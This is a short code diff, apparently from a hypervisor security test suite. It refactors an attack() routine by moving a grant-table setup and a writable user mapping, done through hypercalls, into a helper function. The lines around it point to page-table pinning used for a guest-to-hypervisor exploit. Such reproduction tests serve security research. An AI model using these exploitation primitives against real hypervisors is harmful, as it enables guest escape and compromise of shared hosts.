@@ -45,18 +45,7 @@ static void expose(uint64_t *hole, uint32_t handle, const char *how)
 
 void attack(void)
 {
-	uint64_t gframe = 0;
-	struct keel_gnttab_setup_table st = { .domid = KEEL_DOMID_SELF,
-					      .nr_frames = 1,
-					      .frame_list = (uint64_t)&gframe };
-
-	CHECK_EQ(hostile_gnttab(KEEL_GNTTABOP_setup_table, &st, 1), 0);
-	CHECK_EQ(st.status, 0);
-	gnt = hostile_hole();
-	CHECK_EQ(keel_hypercall_update_va_mapping((uint64_t)gnt,
-						  (gframe << 12) | PTE_P |
-						  PTE_W | PTE_U | PTE_NX,
-						  KEEL_UVMF_INVLPG), 0);
+	gnt = hostile_map_grant_frame();
 	page = rt_alloc_pages(1);
 	page_mfn = rt_va_to_mfn(page);
 	page[0] = 0x5e1e;	/* not present, as an entry: pinnable */
